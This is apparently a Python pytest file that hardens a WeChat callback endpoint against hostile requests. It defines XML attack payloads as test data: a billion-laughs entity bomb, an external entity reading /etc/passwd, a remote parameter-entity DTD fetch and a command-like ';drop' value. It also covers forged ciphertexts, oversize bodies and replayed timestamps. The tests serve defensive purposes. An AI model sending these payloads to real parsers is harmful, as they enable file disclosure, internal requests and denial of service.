"""Hostile payloads: each is answered without a 500, in under 100 ms, and leaves no trace."""

from __future__ import annotations

import base64
import time

import pytest
from sqlalchemy import select

from core.db import db
from core.redis import get_redis
from tests.support.wechat import (
    AES_KEY,
    APPID,
    OA_ID,
    TOKEN,
    FakeWeChat,
    aes_encrypt,
    answering_brand,
    text_xml,
)
from wechat import inbound, router
from wechat.callback import MAX_BODY
from wechat.models import InboundMessage

OPENID = "oHostile00000000000000000001"

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]><xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1"
    "</CreateTime><MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId></xml>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>"
    "<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>2</MsgId></xml>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://10.0.0.1/x.dtd">'
    "%remote;]><xml><MsgType>text</MsgType></xml>"
)
DUPLICATED_TAGS = (
    f"<xml><ToUserName>{OA_ID}</ToUserName><FromUserName>{OPENID}</FromUserName>"
    f"<FromUserName>oSomebodyElse</FromUserName><CreateTime>1</CreateTime>"
    "<MsgType>text</MsgType><MsgType>event</MsgType><Content>hi</Content><MsgId>3</MsgId></xml>"
)
UNKNOWN_TYPE = (
    f"<xml><ToUserName>{OA_ID}</ToUserName><FromUserName>{OPENID}</FromUserName>"
    "<CreateTime>1</CreateTime><MsgType>hologram</MsgType><MsgId>4</MsgId></xml>"
)
UNDEFINED_ENTITY = text_xml(OPENID, "&nope;", 5, cdata=False)

# (name, how to send it, expected status codes)
PLAIN_CASES = [
    ("broken xml", b"<xml><ToUserName>a</ToUser", {400}),
    ("not xml at all", b'{"MsgType": "text"}', {400}),
    ("billion laughs", BILLION_LAUGHS.encode(), {400}),
    ("external entity", EXTERNAL_ENTITY.encode(), {400}),
    ("parameter entity", PARAMETER_ENTITY.encode(), {400}),
    ("undefined entity", UNDEFINED_ENTITY.encode(), {400}),
    ("duplicated tags", DUPLICATED_TAGS.encode(), {400}),
    ("unknown message type", UNKNOWN_TYPE.encode(), {200}),
    ("empty body", b"", {400}),
    ("whitespace body", b"  \n ", {400}),
    ("wrong root", b"<html><MsgType>text</MsgType></html>", {400}),
    ("deep nesting", b"<xml>" + b"<a>" * 50 + b"</a>" * 50 + b"</xml>", {400}),
    ("missing fields", b"<xml><MsgType>text</MsgType></xml>", {400}),
    (
        "non-numeric time",
        text_xml(OPENID, "hi", 6).replace("<CreateTime>", "<CreateTime>x").encode(),
        {400},
    ),
    ("invalid utf-8", b"<xml><Content>\xff\xfe</Content></xml>", {400}),
    ("declared unknown encoding", b'<?xml version="1.0" encoding="x-nope"?><xml/>', {400}),
    (
        "bad event name",
        text_xml(OPENID, "hi", 7)
        .replace(
            "<MsgType><![CDATA[text]]></MsgType>",
            "<MsgType>event</MsgType><Event>sub scribe;drop</Event>",
        )
        .encode(),
        {400},
    ),
]


@pytest.fixture
def wx(client, ctx):
    return FakeWeChat(client, answering_brand("default", greeting="hi").slug)


@pytest.fixture
def effects():
    calls = []

    def record(ctx):
        calls.append(ctx)

    router.on("*", priority=0)(record)
    yield calls
    router.off(record)


# MsgIds used by the corpus; the Redis db may be shared with other processes (a benchmark),
# so only this corpus's dedupe keys are looked for.
CORPUS_MSG_IDS = {str(i) for i in range(1, 12)} | {"100"}


def _corpus_dedupe_keys() -> list[str]:
    found = []
    for raw in get_redis().scan_iter(match="*wx-in*", count=1000):
        k = raw.decode()
        last = k.rsplit(":", 1)[-1]
        if (":msg:" in k and last in CORPUS_MSG_IDS) or f":{OPENID}:" in k or ":ev:b:" in k:
            found.append(k)
    return found


def _assert_no_trace(effects):
    db.session.rollback()
    inbound.flush_inbound()  # what the periodic job would store
    db.session.commit()
    stored = db.session.execute(select(InboundMessage).execution_options(all_brands=True)).all()
    assert stored == [] and effects == []
    assert _corpus_dedupe_keys() == []


def _timed(send):
    send()  # warm-up: the first request of a process compiles templates, connects, ...
    started = time.perf_counter()
    resp = send()
    return resp, time.perf_counter() - started


@pytest.mark.parametrize("name, body, statuses", PLAIN_CASES, ids=[c[0] for c in PLAIN_CASES])
def test_hostile_plaintext_payload(wx, effects, name, body, statuses):
    resp, seconds = _timed(lambda: wx.post_plain(body))
    assert resp.status_code in statuses
    assert resp.status_code != 500
    assert seconds < 0.1
    _assert_no_trace(effects)


def _aes_cases(wx):
    good = text_xml(OPENID, "hi", 100)
    return {
        "wrong appid in ciphertext": lambda: wx.post_aes(good, appid="wxattacker000001"),
        "garbage base64 in Encrypt": lambda: wx.post_aes(good, encrypt="@@not base64!!"),
        "truncated ciphertext": lambda: wx.post_aes(
            good, encrypt=aes_encrypt(good.encode(), AES_KEY, APPID)[:-8] + "AAAAAAA="
        ),
        "random bytes as ciphertext": lambda: wx.post_aes(
            good, encrypt=base64.b64encode(bytes(range(64))).decode()
        ),
        "unknown aes key": lambda: wx.post_aes(good, aes_key="Z" * 43),
        "empty Encrypt": lambda: wx.post_aes(good, encrypt="", msg_signature="0" * 40),
        "bad msg_signature": lambda: wx.post_aes(good, msg_signature="0" * 40),
        "billion laughs inside the ciphertext": lambda: wx.post_aes(BILLION_LAUGHS),
        "duplicated tags inside the ciphertext": lambda: wx.post_aes(DUPLICATED_TAGS),
        "unknown type inside the ciphertext": lambda: wx.post_aes(UNKNOWN_TYPE),
    }


AES_NAMES = [
    "wrong appid in ciphertext",
    "garbage base64 in Encrypt",
    "truncated ciphertext",
    "random bytes as ciphertext",
    "unknown aes key",
    "empty Encrypt",
    "bad msg_signature",
    "billion laughs inside the ciphertext",
    "duplicated tags inside the ciphertext",
    "unknown type inside the ciphertext",
]


@pytest.mark.parametrize("name", AES_NAMES)
def test_hostile_encrypted_payload(wx, effects, name):
    resp, seconds = _timed(_aes_cases(wx)[name])
    assert resp.status_code in {200, 400, 403}
    assert seconds < 0.1
    if resp.status_code == 200:
        assert resp.data == b"success"
    _assert_no_trace(effects)


def test_bad_signature_with_a_hostile_body_is_403(wx, effects):
    resp, seconds = _timed(lambda: wx.post_plain(BILLION_LAUGHS, signature="1" * 40))
    assert resp.status_code == 403 and seconds < 0.1
    _assert_no_trace(effects)


def test_body_over_one_megabyte_is_rejected_before_reading(wx, effects):
    big = text_xml(OPENID, "x" * (MAX_BODY + 10), 9)
    resp, seconds = _timed(lambda: wx.post_plain(big))
    assert resp.status_code == 413 and seconds < 0.1
    _assert_no_trace(effects)


def test_body_over_one_megabyte_with_a_lying_content_length_is_rejected(wx, effects, app):
    """A chunked or under-declared body is cut at the limit while it is read."""
    big = text_xml(OPENID, "x" * (MAX_BODY + 10), 10).encode()

    def send():
        from io import BytesIO

        environ_overrides = {"wsgi.input": BytesIO(big), "CONTENT_LENGTH": ""}
        return wx.client.post(
            f"{wx.path}?{wx.query()}",
            content_type="text/xml",
            environ_overrides={**environ_overrides, "wsgi.input_terminated": True},
        )

    resp, seconds = _timed(send)
    assert resp.status_code == 413 and seconds < 0.1
    _assert_no_trace(effects)


def test_a_body_just_under_the_limit_is_accepted(wx, effects):
    body = text_xml(OPENID, "y" * (MAX_BODY - 400), 11)
    assert len(body.encode()) < MAX_BODY
    resp = wx.post_plain(body)
    assert resp.status_code == 200 and len(effects) == 1


def test_a_replayed_request_with_an_old_timestamp_is_refused(wx, effects):
    from tests.support.wechat import sign

    old = str(int(time.time()) - 3600)
    nonce = "replay01"
    query = f"signature={sign(TOKEN, old, nonce)}&timestamp={old}&nonce={nonce}"
    xml = text_xml("o-replayer", "hi", msg_id="987654321")
    r = wx.client.post(f"{wx.path}?{query}", data=xml, content_type="text/xml")
    assert r.status_code == 403
    _assert_no_trace(effects)
    future = str(int(time.time()) + 3600)
    query = f"signature={sign(TOKEN, future, nonce)}&timestamp={future}&nonce={nonce}"
    r = wx.client.post(f"{wx.path}?{query}", data=xml, content_type="text/xml")
    assert r.status_code == 403
    _assert_no_trace(effects)
